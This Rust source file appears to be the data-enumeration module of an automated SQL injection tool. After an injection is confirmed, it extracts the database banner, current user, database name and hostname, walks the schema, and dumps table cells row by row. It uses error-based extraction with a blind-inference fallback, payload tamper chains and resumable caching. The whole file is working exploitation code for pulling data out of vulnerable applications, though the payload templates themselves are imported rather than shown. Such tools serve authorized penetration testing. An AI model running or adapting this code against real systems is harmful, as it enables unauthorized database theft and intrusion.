use std::sync::Arc;

use crate::core::config::ScanConfig;
use crate::core::error::{EngineError, Result};
use crate::detect::Detection;
use crate::http::{Requester, Target};
use crate::inference::Extractor;
use crate::payloads::{
    banner_exprs, column_count_templates, column_name_templates, current_db_exprs,
    current_user_exprs, extract_error_value, fill, hostname_exprs, record_count_templates,
    record_dump_templates, scoped_randnum, Dbms, PayloadTemplate, Slot, Technique,
};
use crate::session::{SessionStore, StorageRecord};
use crate::tamper::{chain_from_config, TamperContext, TamperStage};

/// Data enumeration on top of a confirmed detection: DBMS metadata and the
/// schema walk. Error-based vectors are the fast path; blind inference is
/// the fallback.
pub struct Enumerator<'a> {
    requester: &'a Requester,
    store: Arc<dyn SessionStore>,
    config: &'a ScanConfig,
    target: &'a Target,
    detection: &'a Detection,
}

impl<'a> Enumerator<'a> {
    pub fn new(
        requester: &'a Requester,
        store: Arc<dyn SessionStore>,
        config: &'a ScanConfig,
        target: &'a Target,
        detection: &'a Detection,
    ) -> Self {
        Self { requester, store, config, target, detection }
    }

    fn dbms(&self) -> Dbms {
        // generic fallback when fingerprinting failed: MySQL templates are
        // the most widely accepted
        self.detection.backend.unwrap_or(Dbms::MySql)
    }

    fn randnum(&self) -> u32 {
        scoped_randnum(&format!(
            "{}|{}",
            self.target.endpoint_path(),
            self.target.parameter.key
        ))
    }

    pub async fn banner(&self) -> Result<String> {
        self.scalar(banner_exprs(self.dbms()), "banner").await
    }

    pub async fn current_user(&self) -> Result<String> {
        self.scalar(current_user_exprs(self.dbms()), "current_user").await
    }

    pub async fn current_db(&self) -> Result<String> {
        self.scalar(current_db_exprs(self.dbms()), "current_db").await
    }

    pub async fn hostname(&self) -> Result<String> {
        self.scalar(hostname_exprs(self.dbms()), "hostname").await
    }

    pub async fn column_count(&self, db: &str, tbl: &str) -> Result<u64> {
        let label = format!("column_count:{}.{}", db, tbl);
        let value = self
            .templated(
                column_count_templates(self.dbms()),
                &[(Slot::Db, db), (Slot::Tbl, tbl)],
                &label,
            )
            .await?;
        parse_count(&value)
    }

    pub async fn column_name(&self, db: &str, tbl: &str, offset: u64) -> Result<String> {
        let off = offset.to_string();
        let label = format!("column_name:{}.{}:{}", db, tbl, offset);
        self.templated(
            column_name_templates(self.dbms()),
            &[(Slot::Db, db), (Slot::Tbl, tbl), (Slot::Offset, off.as_str())],
            &label,
        )
        .await
    }

    pub async fn record_count(&self, db: &str, tbl: &str) -> Result<u64> {
        let label = format!("record_count:{}.{}", db, tbl);
        let value = self
            .templated(
                record_count_templates(self.dbms()),
                &[(Slot::Db, db), (Slot::Tbl, tbl)],
                &label,
            )
            .await?;
        parse_count(&value)
    }

    /// One cell of a row dump, keyed `dump:<db>.<tbl>.<col>:<row>`.
    pub async fn dump_cell(&self, db: &str, tbl: &str, col: &str, row: u64) -> Result<String> {
        let off = row.to_string();
        let label = format!("dump:{}.{}.{}:{}", db, tbl, col, row);
        self.templated(
            record_dump_templates(self.dbms()),
            &[(Slot::Db, db), (Slot::Tbl, tbl), (Slot::Col, col), (Slot::Offset, off.as_str())],
            &label,
        )
        .await
    }

    /// Try each scalar expression in order until one extracts.
    async fn scalar(&self, exprs: &[&str], label: &str) -> Result<String> {
        let mut last_err = EngineError::OracleAmbiguous(format!("no expression recovered {}", label));
        for expr in exprs {
            let query = format!("(SELECT {})", expr);
            match self.extract(&query, label).await {
                Ok(value) => return Ok(value),
                Err(e) if e.is_fatal() => return Err(e),
                Err(e) => {
                    tracing::debug!("expression '{}' failed: {}", expr, e);
                    last_err = e;
                }
            }
        }
        Err(last_err)
    }

    async fn templated(
        &self,
        templates: &[PayloadTemplate],
        subs: &[(Slot, &str)],
        label: &str,
    ) -> Result<String> {
        let mut last_err = EngineError::OracleAmbiguous(format!("no template recovered {}", label));
        for template in templates {
            let filled = fill(template.expr, subs)?;
            let query = format!("(SELECT {})", filled);
            match self.extract(&query, label).await {
                Ok(value) => return Ok(value),
                Err(e) if e.is_fatal() => return Err(e),
                Err(e) => last_err = e,
            }
        }
        Err(last_err)
    }

    async fn extract(&self, query: &str, label: &str) -> Result<String> {
        if !self.config.fresh_queries {
            if let Some(record) = self.store.storage_get(label).await? {
                if record.is_complete() {
                    tracing::info!("resumed: {}", record.value);
                    return Ok(record.value);
                }
            }
        }

        if let Some(value) = self.error_fast_path(query, label).await? {
            return Ok(value);
        }

        let confirmed = self
            .detection
            .inference_vector()
            .ok_or_else(|| EngineError::OracleAmbiguous("no vector available for inference".into()))?;
        let oracle = self
            .detection
            .oracle(self.config.timesec)
            .ok_or_else(|| EngineError::OracleAmbiguous("no oracle available for inference".into()))?;

        let extractor = Extractor::new(
            self.requester,
            self.store.as_ref(),
            self.config,
            self.target,
            confirmed.vector.prepared(),
            oracle,
            self.dbms(),
            self.randnum(),
        );
        Ok(extractor.extract(query, Some(label)).await?.value)
    }

    /// Render the query through the error vector and harvest the value from
    /// the induced error message; one request instead of dozens.
    async fn error_fast_path(&self, query: &str, label: &str) -> Result<Option<String>> {
        let Some(confirmed) = self.detection.vector_of(Technique::Error) else {
            return Ok(None);
        };
        let sleeptime = self.config.timesec as u64;
        let rendered = confirmed.vector.render(query, sleeptime, self.randnum());
        let names = self.config.tamper_names();
        let ctx = TamperContext { dbms: Some(self.dbms()), technique: Some(Technique::Error) };
        let payload =
            chain_from_config(names.as_deref(), TamperStage::Injection, Some(Technique::Error))?
                .apply(&rendered, &ctx)
                .payload;
        let response = self.requester.send(self.target, Some(&payload)).await?;
        let Some(value) = extract_error_value(&response.body) else {
            return Ok(None);
        };
        self.store
            .storage_upsert(&StorageRecord {
                key: label.to_string(),
                value: value.clone(),
                length: value.chars().count() as i64,
            })
            .await?;
        Ok(Some(value))
    }
}

fn parse_count(value: &str) -> Result<u64> {
    value
        .trim()
        .parse::<u64>()
        .map_err(|_| EngineError::OracleAmbiguous(format!("expected a count, extracted '{}'", value)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn count_parsing() {
        assert_eq!(parse_count("42").unwrap(), 42);
        assert!(parse_count("abc").is_err());
    }
}
